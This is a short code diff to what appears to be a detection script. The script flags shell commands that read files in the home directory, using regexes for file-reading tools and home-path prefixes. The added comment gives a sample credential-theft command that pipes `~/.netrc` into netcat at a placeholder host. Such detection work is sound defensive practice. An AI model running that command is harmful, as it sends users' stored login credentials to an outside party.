@@ -18,6 +18,7 @@ READING = re.compile(
     r"\b(?:cat|tac|head|tail|less|more|cp|mv|ln|tar|zip|gzip|bzip2|xz|base64|base32|xxd|od|strings"
     r"|hexdump|grep|rg|find|rsync|dd|sqlite3|sed|awk|jq|scp|cut|sort|ls)\b"
 )
+# `~/.netrc` of `cat "~/.netrc"|nc x 1`
 COMMAND_WORD = re.compile(r"[^\s;|&<>()\"'`]+")
 HOME_WORDS = ("~/", "$HOME/", "${HOME}/")
 
